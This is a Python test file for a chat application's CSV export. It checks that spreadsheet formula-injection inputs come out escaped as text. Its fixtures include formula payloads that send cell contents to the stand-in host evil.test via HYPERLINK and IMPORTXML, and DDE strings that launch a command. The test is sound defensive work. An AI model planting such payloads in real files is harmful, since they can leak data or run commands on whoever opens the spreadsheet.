"""CSV export cannot smuggle spreadsheet formulas: a message or title that a spreadsheet would run
(`=HYPERLINK(...)`, `+cmd|...`, `@SUM(...)`, a leading tab or carriage return) comes out as text."""

from __future__ import annotations

import csv
import io
from typing import Any

import httpx

from papo.auth.models import Role
from tests.support import create_session, send

HOSTILE = [
    '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",
]
HARMLESS = ["plain words", "5 - 3 is two", "'already quoted", "a=b"]


async def test_formula_cells_are_escaped_in_the_csv_export(client: httpx.AsyncClient, make_tenant: Any) -> None:
    member = await (await make_tenant()).member(Role.member)
    chat = await create_session(client, member, '=IMPORTXML(CONCAT("http://evil.test/?",A2),"//a")')
    for content in HOSTILE + HARMLESS:
        await send(client, member, chat["id"], content)

    for url in (f"/api/v1/sessions/{chat['id']}/export?format=csv", "/api/v1/export?format=csv"):
        response = await client.get(url, headers=member.headers)
        assert response.status_code == 200
        rows = list(csv.DictReader(io.StringIO(response.text, newline="")))
        contents = [row["content"] for row in rows]
        assert contents == ["'" + text for text in HOSTILE] + HARMLESS
        assert {row["session_title"] for row in rows} == {"'" + chat["title"]}
        for row in rows:  # every cell, not only the user-written ones
            assert not any(value.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for value in row.values())

    # The other formats keep the text exactly as written.
    document = (await client.get(f"/api/v1/sessions/{chat['id']}/export?format=json", headers=member.headers)).json()
    assert [message["content"] for message in document["sessions"][0]["messages"]] == HOSTILE + HARMLESS
